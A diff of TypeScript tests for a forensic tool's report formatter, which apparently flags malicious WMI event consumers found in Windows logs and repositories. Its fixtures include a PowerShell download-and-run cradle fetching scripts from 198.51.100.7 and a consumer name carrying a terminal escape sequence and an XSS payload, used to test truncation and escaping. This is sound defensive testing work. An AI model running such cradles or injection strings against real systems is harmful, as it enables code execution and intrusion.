@@ -443,8 +443,8 @@ test('timeline: Timesketch lines per timed observation, ISO datetimes, ordered, 
   assert.equal(isoToMicros('2024-03-02T02:14:07.5+01:00'), Date.parse('2024-03-02T01:14:07.5Z') * 1000);
 });
 
-test('table: key lines for a responder, worst first, reasons and coverage, evidence and notes', () => {
-  const out = formatReport(fixture(), 'table');
+test('table --details -v: key lines for a responder, worst first, reasons and coverage, evidence and notes', () => {
+  const out = formatReport(fixture(), 'table', { details: true, verbose: true });
   const lines = out.split('\n');
   for (const l of lines) assert.ok([...l].length <= 100, `wider than 100: ${l}`);
   const pos = (s: string): number => {
@@ -453,7 +453,7 @@ test('table: key lines for a responder, worst first, reasons and coverage, evide
     return i;
   };
   assert.ok(pos(' CRITICAL ') < pos(' HIGH ') && pos(' HIGH ') < pos(' MEDIUM ') && pos(' MEDIUM ') < pos(' INFO '));
-  pos('4 findings (1 critical, 1 high, 1 medium, 1 info)');
+  pos('Findings  4: 1 critical, 1 high, 1 medium, 1 info (1 allow-listed)');
   pos('Namespace  : ROOT\\totallylegit');
   pos('Consumer   : WindowsUpdateSync  [ActiveScriptEventConsumer]');
   pos('Missed by  : Sysmon (namespace not covered); Autoruns (namespace not covered)');
@@ -474,9 +474,9 @@ test('table: key lines for a responder, worst first, reasons and coverage, evide
   pos('2019-05-11T17:58:54.9031596Z  sysmon deleted consumer "BotConsumer23" by IEWIN7\\IEUser\n        in samples/evtx/EVTX-ATTACK-SAMPLES/sysmon_20_21_1_CommandLineEventConsumer.evtx @ record');
   pos('        in C:\\Cases\\2024-117\\WKS-FIN-042\\C\\Windows\\System32\\wbem\\Repository\\OBJECTS.DATA @ page 812\n           offset 0x1a40\n');
   pos('Binding    : __FilterToConsumerBinding');
-  pos('Evidence read: 3 files, 3 hosts, 5207 records');
+  pos('Evidence read: 3 files, 3 hosts, 5,207 records');
   pos(SYSMON_FILE);
-  pos('Notes: 1 warning, 1 skipped');
+  pos('Notes     1 warning, 1 skipped');
   pos('chunk 3: bad checksum, 12 records recovered from it');
   pos('not an EVTX file or a CIM repository');
   // Multi-line evidence keeps its lines, escaped: no raw CR reaches the terminal.
@@ -484,13 +484,17 @@ test('table: key lines for a responder, worst first, reasons and coverage, evide
 });
 
 test('table: a hostile consumer name is shown escaped, never raw (no ESC without color, only SGR with it)', () => {
-  const plain = formatReport(fixture(), 'table');
+  const compact = formatReport(fixture(), 'table', { width: 200 });
+  assert.ok(compact.includes('evil\\x1b[2J<img'), compact);
+  assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(compact), 'no control characters at all besides LF');
+  assert.equal(formatReport(fixture(), 'table', { color: true, width: 200 }).replace(/\u001b\[[0-9;]*m/g, ''), compact, 'color changes nothing but the SGR codes');
+  const plain = formatReport(fixture(), 'table', { details: true });
   assert.ok(!plain.includes('\u001b'), 'no raw ESC');
   assert.ok(plain.includes('Consumer   : evil\\x1b[2J<img src=x onerror=alert(1)>  [CommandLineEventConsumer]'));
   assert.ok(plain.includes('evidence: evil\\x1b[2J<img'));
   assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(plain), 'no control characters at all besides LF');
 
-  const colored = formatReport(fixture(), 'table', { color: true });
+  const colored = formatReport(fixture(), 'table', { color: true, details: true });
   const escapes = colored.match(/\u001b[^m]*m?/g) ?? [];
   assert.ok(escapes.length > 0);
   for (const e of escapes) assert.match(e, /^\u001b\[[0-9;]*m$/, `only SGR sequences: ${JSON.stringify(e)}`);
@@ -507,7 +511,7 @@ test('table: fits a narrow width, long payloads cut with an ellipsis, reasons ne
   l.decoded = [Array.from({ length: 40 }, (_, i) => `line ${i}: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a${i}.ps1')`).join('\n')];
   l.reasons.push({ id: 'payload.long', title: 'Very long payload '.repeat(12).trim(), attack: ['T1027'], evidence: blob, score: 5 });
   for (const width of [60, 80]) {
-    const out = formatReport(r, 'table', { width });
+    const out = formatReport(r, 'table', { width, details: true });
     const lines = out.split('\n');
     for (const line of lines) assert.ok([...line].length <= width, `wider than ${width}: ${line}`);
     const block = out.slice(out.indexOf(' CRITICAL '), out.indexOf(' HIGH '));
@@ -522,7 +526,7 @@ test('table: fits a narrow width, long payloads cut with an ellipsis, reasons ne
     assert.ok(!block.includes(blob), 'the long blob is not printed whole');
     assert.ok(block.includes('line 0: IEX') && !block.includes('line 39:'), 'decoded payload cut');
   }
-  assert.doesNotThrow(() => formatReport(r, 'table', { width: 5 }), 'absurd width is clamped');
+  assert.doesNotThrow(() => formatReport(r, 'table', { width: 5, details: true }), 'absurd width is clamped');
 });
 
 test('minSeverity filters findings in every format', () => {
@@ -552,9 +556,9 @@ test('minSeverity filters findings in every format', () => {
     .map((l) => JSON.parse(l) as TimelineEvent);
   assert.ok(tl.length === 8 && tl.every((e) => keep.has(e.finding_id)));
   assert.equal(formatReport(r, 'timeline', { minSeverity: 'critical' }).trimEnd().split('\n').length, 2);
-  const table = formatReport(r, 'table', { minSeverity: 'high' });
+  const table = formatReport(r, 'table', { minSeverity: 'high', details: true });
   assert.ok(table.includes(' CRITICAL ') && table.includes(' HIGH ') && !table.includes(' MEDIUM ') && !table.includes(' INFO '));
-  assert.ok(table.includes('2 findings below high not shown'));
+  assert.ok(table.includes('Hidden    2 (1 medium, 1 info): 2 below high'), table);
   assert.ok(!table.includes('\\x1b'), 'the hostile (medium) finding is filtered out');
   assert.equal(formatReport(r, 'json', { minSeverity: 'info' }), formatReport(r, 'json'));
   for (const format of ALL) assert.equal(typeof formatReport({ ...r, findings: [] }, format), 'string');
